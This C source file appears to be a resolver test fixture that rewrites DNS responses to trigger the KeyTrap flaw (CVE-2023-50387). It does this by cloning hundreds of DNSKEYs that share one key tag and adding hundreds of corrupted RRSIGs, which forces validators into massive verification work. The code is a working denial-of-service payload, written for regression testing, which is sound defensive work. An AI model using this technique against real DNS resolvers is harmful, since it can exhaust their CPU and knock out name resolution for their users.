/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * KeyTrap (CVE-2023-50387): a validator must try every key of a signature's
 * key tag with every signature, so that m keys of one tag and n signatures
 * that fit none of them cost m times n verifications.
 */
#include "tests/internet/fault_packet.h"

#define KEYS       300u
#define SIGNATURES 250u

#define RRSIG_TAG       6 /* field of the key tag */
#define RRSIG_SIGNATURE 8
#define DNSKEY_KEY      3

static uint32_t
next_random(uint32_t *state)
{
	*state = *state * 1664525u + 1013904223u;
	return *state >> 8;
}

/*
 * Another key of the same tag: the tag is a sum of 16-bit words (RFC 4034
 * appendix B), so what one word gains another loses.
 */
static ldns_rr *
twin_key(const ldns_rr *key, uint32_t *state)
{
	ldns_rr *twin = ldns_rr_clone(key);
	const ldns_rdf *rdf = ldns_rr_rdf(twin, DNSKEY_KEY);
	uint8_t *octets = ldns_rdf_data(rdf);
	const size_t words = ldns_rdf_size(rdf) / 2;

	for (unsigned swaps = 0; words > 1 && swaps < 40; swaps++) {
		const size_t a = next_random(state) % words * 2;
		const size_t b = next_random(state) % words * 2;
		const uint8_t high = octets[a], low = octets[a + 1];

		octets[a] = octets[b];
		octets[a + 1] = octets[b + 1];
		octets[b] = high;
		octets[b + 1] = low;
	}
	return twin;
}

static ldns_rr *
broken_signature(const ldns_rr *rrsig, uint32_t *state)
{
	ldns_rr *broken = ldns_rr_clone(rrsig);
	const ldns_rdf *rdf = ldns_rr_rdf(broken, RRSIG_SIGNATURE);

	for (size_t i = 0; i < ldns_rdf_size(rdf); i += 3)
		ldns_rdf_data(rdf)[i] ^= (uint8_t)next_random(state);
	return broken;
}

/* Every signature breaks, and many more like them follow. */
static void
multiply_signatures(ldns_rr_list *answer, uint32_t *state)
{
	const size_t count = ldns_rr_list_rr_count(answer);

	for (size_t i = 0; i < count; i++) {
		ldns_rr *rr = ldns_rr_list_rr(answer, i);

		if (ldns_rr_get_type(rr) != LDNS_RR_TYPE_RRSIG)
			continue;
		ldns_rr *broken = broken_signature(rr, state);
		(void)ldns_rr_list_set_rr(answer, broken, i);
		for (unsigned n = 0; n < SIGNATURES; n++)
			(void)ldns_rr_list_push_rr(
			    answer, broken_signature(rr, state));
		ldns_rr_free(rr);
	}
}

static void
multiply_keys(ldns_rr_list *answer, uint32_t *state)
{
	const size_t count = ldns_rr_list_rr_count(answer);

	for (size_t i = 0; i < count; i++) {
		const ldns_rr *rr = ldns_rr_list_rr(answer, i);

		if (ldns_rr_get_type(rr) != LDNS_RR_TYPE_DNSKEY ||
		    (ldns_rdf2native_int16(ldns_rr_rdf(rr, 0)) & 1) == 0)
			continue;
		for (unsigned n = 0; n < KEYS; n++)
			(void)ldns_rr_list_push_rr(answer, twin_key(rr, state));
	}
}

static void
key_bomb(ldns_rr_list *answer, ldns_rr_list *authority)
{
	uint32_t state = 53;

	(void)authority;
	multiply_keys(answer, &state);
	multiply_signatures(answer, &state);
}

static void
signature_bomb(ldns_rr_list *answer, ldns_rr_list *authority)
{
	uint32_t state = 53;

	(void)authority;
	multiply_signatures(answer, &state);
}

static void throw(struct exchange * x, fault_edit_fn *bomb)
{
	if (x->tcp)
		exchange_edit(x, bomb);
	else
		exchange_truncate(x);
}

void
spoil_many_keys(struct exchange *x)
{
	throw(x, key_bomb);
}

void
spoil_many_signatures(struct exchange *x)
{
	throw(x, signature_bomb);
}
